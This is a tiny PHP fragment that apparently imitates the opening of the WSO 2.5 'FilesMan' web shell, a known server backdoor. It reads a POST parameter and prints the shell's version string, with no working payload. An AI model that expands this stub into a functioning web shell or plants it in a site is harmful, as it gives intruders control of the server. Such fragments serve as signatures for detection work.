<?php
// FilesMan panel
$a = $_POST['a'] ?? 'FilesMan';
echo 'WSO 2.5';
